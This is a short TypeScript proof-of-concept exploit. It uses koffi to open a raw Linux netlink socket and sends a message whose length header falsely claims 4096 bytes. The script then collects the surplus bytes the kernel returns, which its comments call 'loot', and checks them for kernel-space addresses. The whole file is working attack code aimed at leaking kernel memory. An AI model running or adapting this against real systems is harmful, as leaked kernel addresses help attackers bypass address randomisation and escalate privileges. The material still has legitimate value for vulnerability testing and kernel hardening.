// Lies to the module trusting about the length: sends a header and 8 bytes,
// claims 4096, and looks at what else comes back.
import koffi from 'koffi';

const libc = koffi.load('libc.so.6');
const socket = libc.func('int socket(int, int, int)');
const bind = libc.func('int bind(int, const void *, uint32_t)');
const write = libc.func('intptr_t write(int, const void *, size_t)');
const recv = libc.func('intptr_t recv(int, _Out_ uint8_t *, size_t, int)');

const port = 1001;
const fd: number = socket(16, 3, 22);
const address = Buffer.alloc(12);
address.writeUInt16LE(16, 0);
address.writeUInt32LE(port, 4);
if (fd === -1 || bind(fd, address, 12) === -1) throw new Error('no socket');

// region: lie
const mine = 'my bytes';
const message = Buffer.alloc(16 + mine.length);
message.writeUInt32LE(4096, 0); // nlmsg_len: a lie, it is 24
message.writeUInt16LE(16, 4);
message.writeUInt16LE(1, 6);
message.writeUInt32LE(port, 12);
message.write(mine, 16);
write(fd, message, message.length);
// endregion: lie

// region: loot
const answer = Buffer.alloc(8192);
const got: number = recv(fd, answer, answer.length, 0x40);
const loot = answer.subarray(message.length, Math.max(got, message.length));

/** Numbers that lie where Linux on x86-64 keeps its code and its memory. */
function addressesIn(bytes: Buffer): number {
  let found = 0;
  for (let at = 0; at + 8 <= bytes.length; at += 8) {
    const top = bytes.readUInt32LE(at + 4);
    if (top === 0xffffffff || top >>> 16 === 0xffff) found += 1;
  }
  return found;
}

const leaks = addressesIn(loot) > 0;
console.log(`sent      ${message.length} bytes, "${mine}" among them`);
console.log(`received  ${got} bytes, ${loot.length} of them never sent`);
console.log(`addresses of the kernel among those: ${leaks ? 'yes' : 'no'}`);
process.exitCode = leaks ? 0 : 1;
// endregion: loot
